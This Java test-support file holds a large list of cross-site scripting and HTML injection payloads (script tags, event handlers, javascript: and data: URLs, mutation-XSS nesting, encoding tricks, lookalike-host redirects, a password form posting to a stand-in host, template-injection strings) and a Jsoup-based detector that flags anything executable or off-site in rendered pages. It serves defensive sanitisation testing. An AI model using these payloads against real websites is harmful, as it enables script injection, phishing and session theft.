package vn.caunoi;

import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;

/**
 * Ways in which pages were attacked (mẫu tấn công). A test puts each of {@link #ALL} into a field,
 * fetches the pages that show the field, and asks {@link #traces} what of them could run.
 */
public final class Attacks {

    private static final Set<String> ADDRESSES =
            Set.of(
                    "href",
                    "xlink:href",
                    "src",
                    "srcset",
                    "action",
                    "formaction",
                    "data",
                    "poster",
                    "background",
                    "cite",
                    "ping");
    private static final Pattern ABROAD =
            Pattern.compile(
                    "(?:https?:)?[/\\\\]{2}(?![a-z0-9.-]*(?:localhost|chinhphu\\.vn)(?:[:/?#]|$))");
    private static final Set<String> RUNNING =
            Set.of(
                    "iframe",
                    "frame",
                    "frameset",
                    "portal",
                    "fencedframe",
                    "object",
                    "embed",
                    "applet",
                    "base",
                    "style",
                    "template",
                    "math",
                    "foreignobject");

    private Attacks() {}

    /** One a line, and some that need several lines. */
    public static final List<String> ALL =
            Stream.concat(
                            """
            <script>alert(1)</script>
            <SCRIPT SRC=//x.example/a.js></SCRIPT>
            <scr<script>ipt>alert(1)</scr</script>ipt>
            <script/xss>alert(1)</script>
            <script>alert(1)
            <<script>alert(1);//<</script>
            <img src=x onerror=alert(1)>
            <img src="x` `<script>alert(1)</script>"` `>
            <IMG SRC=javascript:alert(1)>
            <img src="jav&#x09;ascript:alert(1)">
            <img src="/anh/../javascript:alert(1)">
            <img \"""><script>alert(1)</script>">
            <img/src=x/onerror=alert(1)>
            <img src=x:alert(alt) onerror=eval(src) alt=xss>
            <img src=data:image/svg+xml;base64,PHN2Zy9vbmxvYWQ9YWxlcnQoMSk+>
            <img srcset="x 1x, javascript:alert(1) 2x">
            <img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">
            <svg onload=alert(1)>
            <svg><script>alert(1)</script></svg>
            <svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
            <svg><animate attributeName=href values=javascript:alert(1) /></svg>
            <svg><style><img src=x onerror=alert(1)></style></svg>
            <svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
            <math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
            <math href="javascript:alert(1)">x</math>
            <math><annotation-xml encoding="text/html"><p><script>alert(1)</script></p></annotation-xml></math>
            <iframe src="javascript:alert(1)"></iframe>
            <iframe srcdoc="<script>alert(1)</script>"></iframe>
            <iframe src=https://cobac.example width=0 height=0>
            <object data="javascript:alert(1)"></object>
            <embed src="javascript:alert(1)">
            <applet code=x></applet>
            <a href="javascript:alert(1)">x</a>
            <a href="JaVaScRiPt:alert(1)">x</a>
            <a href=" &#14; javascript:alert(1)">x</a>
            <a href="java&Tab;script:alert(1)">x</a>
            <a href="java&NewLine;script:alert(1)">x</a>
            <a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">x</a>
            <a href="vbscript:msgbox(1)">x</a>
            <a href="data:text/html,<script>alert(1)</script>">x</a>
            <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
            <a href="//x.example">x</a>
            <a href="/\\x.example">x</a>
            <a href="\\\\x.example">x</a>
            <a href="https:x.example">x</a>
            <a href="https://chinhphu.vn@x.example/">x</a>
            <a href="https://chinhphu.vn.x.example/">x</a>
            <a href="https://x.example\\.chinhphu.vn/">x</a>
            <a href="x" onclick=alert(1) onmouseover="alert(1)">x</a>
            <a href="/" style="position:fixed;inset:0">x</a>
            <a target=_blank ping="https://x.example" href="/">x</a>
            <body onload=alert(1)>
            <body background="javascript:alert(1)">
            <input autofocus onfocus=alert(1)>
            <select onchange=alert(1)><option>x</select>
            <textarea autofocus onfocus=alert(1)></textarea><p>x
            <textarea><script>alert(1)</script>
            <button formaction="javascript:alert(1)">x</button>
            <form action="javascript:alert(1)"><input type=submit></form>
            <form action=https://x.example><input name=password type=password></form>
            <details open ontoggle=alert(1)><summary>x</summary>y</details>
            <video><source onerror="alert(1)"></video>
            <audio src=x onerror=alert(1)>
            <video poster=javascript:alert(1)//></video>
            <marquee onstart=alert(1)>x</marquee>
            <meta http-equiv="refresh" content="0;url=javascript:alert(1)">
            <link rel=stylesheet href="javascript:alert(1)">
            <base href="https://x.example/">
            <style>@import 'https://x.example/a.css';</style>
            <style>body{background:url(javascript:alert(1))}</style>
            <p style="background:url(javascript:alert(1));width:expression(alert(1))">x</p>
            <div style="behavior:url(x.htc)">x</div>
            <table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</td></tr></table>
            <table><script>alert(1)</script><tr><td>x
            <table><td><svg/onload=alert(1)></table>
            <noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
            <template><script>alert(1)</script></template>
            <xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>
            <plaintext><script>alert(1)</script>
            <noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>
            <title><p title="</title><img src=x onerror=alert(1)>"></title>
            <!--[if gte IE 4]><script>alert(1)</script><![endif]-->
            <!-- --!><script>alert(1)</script> -->
            <!--><img src=x onerror=alert(1)>-->
            <![CDATA[<script>alert(1)</script>]]>
            <?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>
            <?php echo '<script>alert(1)</script>' ?>
            <% alert(1) %><script>alert(1)</script>
            <x onclick=alert(1)>x</x>
            <custom-element onpointerenter=alert(1)>x</custom-element>
            <p id="javascript:alert(1)">x</p>
            <p id=fn1 onclick=alert(1)>x</p>
            <img id=fn1 name=getElementById src=x>
            <a id="fn1" href="javascript:alert(1)#fn1">x</a>
            <th scope="row" onclick=alert(1)>x</th>
            <td colspan="javascript:alert(1)">x</td>
            <a href='x'>&lt;script&gt;alert(1)&lt;/script&gt;</a>
            &lt;img src=x onerror=alert(1)&gt;
            <p>&amp;lt;script&amp;gt;</p>
            <b <script>alert(1)</script>0</b>
            <a href="/x"></a><a href="/y" onx=1>y<a href="/z">z
            <p/><p/onclick=alert(1)>x
            <portal src=https://x.example></portal>
            <frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>
            <dialog open onclose=alert(1)>x</dialog>
            <map name=m><area href=javascript:alert(1)></map>
            <isindex action=javascript:alert(1)>
            <keygen autofocus onfocus=alert(1)>
            <object type=text/x-scriptlet data=https://x.example></object>
            <img src=/anh/"onerror=alert(1)//">
            <svg><set attributeName=href to=javascript:alert(1)></svg>
            <svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>
            <svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x"></use></svg>
            <svg><foreignObject><body onload=alert(1)></foreignObject></svg>
            <svg><image href=x onerror=alert(1)></svg>
            <svg><title><img src=x onerror=alert(1)></title></svg>
            <svg><desc><style><img src=x onerror=alert(1)></style></desc></svg>
            <svg><a><animate attributeName=href values=javascript:alert(1)></animate><text x=20 y=20>x</text></a></svg>
            <svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>
            <svg><script href=data:,alert(1)></script></svg>
            <svg><script>&#97;lert(1)</script></svg>
            <svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>
            <svg><discard onbegin=alert(1)></svg>
            <svg/onload=location='javascript:alert(1)'>
            <math><mi//xlink:href="javascript:alert(1)">x</mi></math>
            <math><maction actiontype="statusline#http://x" xlink:href="javascript:alert(1)">x</maction></math>
            <math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>
            <form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>"></form>
            <math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src='#' onerror='alert(1)'>">
            <math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror='alert(1)'>"></style></h1>
            <svg><p><style><g title="</style><img src=x onerror=alert(1)>"></p></svg>
            <svg></br><style><g title="</style><img src=x onerror=alert(1)>">
            <noscript><style></noscript><img src=x onerror=alert(1)></style>
            <style><style /><img src=x onerror=alert(1)>
            <select><template><script>alert(1)</script></template></select>
            <select><style></select><img src=x onerror=alert(1)></style>
            <table><caption><svg><title><table></table></title><style><img src=x onerror=alert(1)></style></svg></caption></table>
            <a><table><td></a><a href=javascript:alert(1)>x
            <p><a href="javascript:alert(1)"><p>x</p></a></p>
            <table><a href="javascript:alert(1)">x</a></table>
            <b><i></b><script>alert(1)</script></i>
            <ruby oncopy="alert(1)">x</ruby>
            <image src=x onerror=alert(1)>
            <image/src/onerror=alert(1)>
            <img src=x onerror="&#97;&#108;&#101;&#114;&#116;(1)">
            <img src=x onerror=\\u0061lert(1)>
            <img src=x onerror='al\\u{65}rt(1)'>
            <img src=x ONERROR=alert(1)>
            <img/onerror=alert(1)/src=x>
            <img src='x'onerror='alert(1)'>
            <img src=x:x onerror=alert(1)//
            <img srcset="javascript:alert(1)">
            <img srcset=",,,,,x" onerror=alert(1)>
            <img src=/anh/x srcset="https://x.example/a.png 2x" sizes="100vw" onerror=alert(1)>
            <picture><source srcset="javascript:alert(1)"><img src=x onerror=alert(1)></picture>
            <picture><source srcset="https://x.example/t.png" media="(min-width: 1px)"><img src=/anh/x></picture>
            <source srcset=x onerror=alert(1)>
            <video src=x onerror=alert(1)>
            <video><track kind=subtitles src=javascript:alert(1) default></video>
            <video onloadstart=alert(1)><source></video>
            <audio autoplay onplay=alert(1) src=data:audio/wav;base64,UklGRg==></audio>
            <input type=image src=x onerror=alert(1)>
            <input type=text value=x onbeforeinput=alert(1) autofocus>
            <input onauxclick=alert(1)>
            <input type=hidden oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>
            <button popovertarget=x onclick=alert(1)>x</button><div popover id=x onbeforetoggle=alert(1)>y</div>
            <a href=# onpointerrawupdate=alert(1)>x</a>
            <p onanimationstart=alert(1) style=animation-name:x>x</p>
            <p ontransitionend=alert(1) style="transition:all 1s">x</p>
            <p tabindex=1 onfocusin=alert(1) autofocus>x</p>
            <p contenteditable onpaste=alert(1)>x</p>
            <p draggable=true ondragstart=alert(1)>x</p>
            <body onhashchange=alert(1)><a href=#x>x</a>
            <body onpageshow=alert(1)>
            <html onwheel=alert(1)>
            <a href="javascript&colon;alert(1)">x</a>
            <a href="javascript&#x3a;alert(1)">x</a>
            <a href="&#x6A;avascript:alert(1)">x</a>
            <a href="&#0000106avascript:alert(1)">x</a>
            <a href="jav&#x0A;ascript:alert(1)">x</a>
            <a href="jav&#x0D;ascript:alert(1)">x</a>
            <a href="&#1;javascript:alert(1)">x</a>
            <a href="&#xFEFF;javascript:alert(1)">x</a>
            <a href="&#x2028;javascript:alert(1)">x</a>
            <a href="javascript://chinhphu.vn/%0Aalert(1)">x</a>
            <a href="javascript:/*https://chinhphu.vn*/alert(1)">x</a>
            <a href=javascript:javascript:alert(1)>x</a>
            <a href="feed:javascript:alert(1)">x</a>
            <a href="view-source:javascript:alert(1)">x</a>
            <a href="blob:https://chinhphu.vn/x">x</a>
            <a href="filesystem:https://chinhphu.vn/x">x</a>
            <a href="data:image/svg+xml,<svg onload=alert(1)>">x</a>
            <a href="DATA:text/html,<script>alert(1)</script>">x</a>
            <a href="ms-word:ofe|u|https://x.example/a.docx">x</a>
            <a href="intent://x.example#Intent;scheme=https;end">x</a>
            <a href="https:/\\x.example/">x</a>
            <a href="/%09/x.example">x</a>
            <a href="/&#9;/x.example">x</a>
            <a href="///x.example">x</a>
            <a href="https:///x.example">x</a>
            <a href="https://x.example%2f.chinhphu.vn/">x</a>
            <a href="https://x.example#.chinhphu.vn/">x</a>
            <a href="https://x.example?.chinhphu.vn/">x</a>
            <a href="https://chinhphu.vn:80@x.example/">x</a>
            <a href="https://chinhphu.vn&#x2f;@x.example/">x</a>
            <a href="http://ⓧ.example/">x</a>
            <a href="https://chinhphu。vn.x.example/">x</a>
            <a href="https://cһinhphu.vn/">x</a>
            <area shape=default href=javascript:alert(1)>
            <link rel=import href="data:text/html,<script>alert(1)</script>">
            <link rel=prefetch href=https://x.example/t>
            <link rel=stylesheet href=data:text/css,body{background:red}>
            <meta http-equiv=refresh content="0; url=data:text/html,<script>alert(1)</script>">
            <meta http-equiv="Content-Security-Policy" content="script-src *">
            <meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-
            <base href=javascript:/a/+alert(1)//><a href=#>x</a>
            <style>a{color:red}</style><style>@import 'data:text/css,*{x:expression(alert(1))}';</style>
            <style>p{background-image:url("javascript:alert(1)")}</style>
            <p style="-moz-binding:url(https://x.example/x.xml#x)">x</p>
            <p style="background:u\\72l(javascript:alert(1))">x</p>
            <p style="width:ex/**/pression(alert(1))">x</p>
            <p style="display:none"><a href="https://cobac.example/">nhà cái uy tín</a></p>
            <p style="position:absolute;left:-9999px">nhà cái <a href=//cobac.example>x</a></p>
            <font color="red" size="javascript:alert(1)" onmouseover=alert(1)>x</font>
            <form id=x></form><button form=x formaction=javascript:alert(1)>x</button>
            <form action=javascript:alert(1)><input type=submit autofocus onfocus=alert(1)></form>
            <form name=body><input name=firstChild></form>
            <a id=location href="https://x.example">x</a><a id=document name=cookie>y</a>
            <iframe/onload=alert(1)></iframe>
            <iframe src="data:text/html,<script>parent.alert(1)</script>"></iframe>
            <iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>
            <embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" type="image/svg+xml">
            <object data="data:text/html,<script>alert(1)</script>"></object>
            <object><param name=src value=javascript:alert(1)></object>
            <script src=data:,alert(1)></script>
            <script>/*</script><img src=x onerror=alert(1)>*/
            <script type=module>alert(1)</script>
            <script type="text/javascript">alert(1)</script foo>
            <script language=vbscript>MsgBox 1</script>
            <script>alert`1`</script>
            <scr<!-- -->ipt>alert(1)</scr<!-- -->ipt>
            <%00script>alert(1)</script>
            <sCrIpT>alert(1)</ScRiPt>
            ＜script＞alert(1)＜/script＞
            %3Cscript%3Ealert(1)%3C/script%3E
            \\x3cscript\\x3ealert(1)\\x3c/script\\x3e
            \\u003cscript\\u003ealert(1)\\u003c/script\\u003e
            &lt;script&gt;alert(1)&lt;/script&gt;
            &#60;script&#62;alert(1)&#60;/script&#62;
            &LT;script&GT;alert(1)&LT;/script&GT;
            "><script>alert(1)</script>
            '><script>alert(1)</script>
            "onmouseover="alert(1)" x="
            ' onfocus='alert(1)' autofocus='
            " autofocus onfocus=alert(1) x="
            `onfocus=alert(1) autofocus x=`
            </title><script>alert(1)</script>
            </textarea><script>alert(1)</script>
            </script><script>alert(1)</script>
            </style><script>alert(1)</script>
            --><script>alert(1)</script><!--
            ]]><script>alert(1)</script>
            */alert(1)/*
            ';alert(1);//
            ";alert(1);//
            "}]}</script><script>alert(1)</script>
            ${alert(1)}
            ${T(java.lang.Runtime).getRuntime().exec("x")}
            #{alert(1)}
            {{constructor.constructor('alert(1)')()}}
            {{7*7}}<script>alert(1)</script>
            @if(true)<script>alert(1)</script>@endif
            $unsafe{"<script>alert(1)</script>"}
            !{alert(1)}
            <%= alert(1) %>
            [[${alert(1)}]]
            *{alert(1)}
            javascript:alert(1)
            java%0ascript:alert(1)
            //x.example
            <a href="/x" target="javascript:alert(1)">x</a>
            <blockquote cite="javascript:alert(1)">x</blockquote>
            <q cite=javascript:alert(1)>x</q>
            <del cite=javascript:alert(1)>x</del>
            <table><colgroup onclick=alert(1)><col></colgroup></table>
            <td background=javascript:alert(1)>x</td>
            <ol type=javascript:alert(1) onclick=alert(1)><li value=x onclick=alert(1)>x</ol>
            <h2 id=x onclick=alert(1)>x</h2>
            <figure onclick=alert(1)><figcaption onclick=alert(1)>x</figcaption></figure>
            <pre onclick=alert(1)>x</pre><code onclick=alert(1)>y</code>
            <sup id="fnref1" onclick=alert(1)>1</sup>
            <p dir="rtl&#x202E;" onclick=alert(1)>x</p>
            <xss style="xss:expression(alert(1))">x</xss>
            <x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
            <html:script xmlns:html="http://www.w3.org/1999/xhtml">alert(1)</html:script>
            <fencedframe src=https://x.example></fencedframe>
            <search onclick=alert(1)>x</search>
            <slot onslotchange=alert(1)></slot>
            <template shadowrootmode=open><img src=x onerror=alert(1)></template>
            <div><template shadowrootmode=open><script>alert(1)</script></template></div>
            """
                                    .lines(),
                            Stream.of(
                                    "<img src=x onerror\n=alert(1)>",
                                    "<img\nsrc=x\nonerror=alert(1)\n>",
                                    "<script\n>alert(1)</script\n>",
                                    "<a href=\"java\nscript:alert(1)\">x</a>",
                                    "<a href=\"java\tscript:alert(1)\">x</a>",
                                    "<img src=x\fonerror=alert(1)>",
                                    "<scr\0ipt>alert(1)</scr\0ipt>",
                                    "<a href=\"\u00a0javascript:alert(1)\">x</a>",
                                    "\u202E<script>alert(1)</script>",
                                    "\uD800<script>alert(1)</script>"))
                    .distinct()
                    .toList();

    /** What of a page of ours could run, or was not written by us; empty for a harmless page. */
    public static List<String> traces(String page) {
        List<String> traces = new ArrayList<>();
        for (Element element : Jsoup.parse(page).getAllElements()) {
            if (runs(element) || element.attributes().asList().stream().anyMatch(Attacks::runs)) {
                traces.add(element.outerHtml());
            }
        }
        return traces;
    }

    private static boolean runs(Element element) {
        boolean script =
                element.nameIs("script")
                        && !element.attr("type").equals("application/ld+json")
                        && !element.attr("src").startsWith("/assets/");
        boolean refresh = element.nameIs("meta") && element.hasAttr("http-equiv");
        return script || refresh || RUNNING.contains(element.normalName());
    }

    private static boolean runs(Attribute attribute) {
        String name = attribute.getKey().toLowerCase(Locale.ROOT);
        String value =
                attribute.getValue().toLowerCase(Locale.ROOT).replaceAll("[\\x00-\\x20]", "");
        return name.startsWith("on")
                || name.equals("style")
                || name.equals("srcdoc")
                || ADDRESSES.contains(name) && leadsAstray(value);
    }

    /** Into code, or to a host that no test allows. */
    private static boolean leadsAstray(String address) {
        return address.matches("(?s)(?:javascript|vbscript|data|blob|filesystem|intent):.*")
                || ABROAD.matcher(address).lookingAt();
    }
}
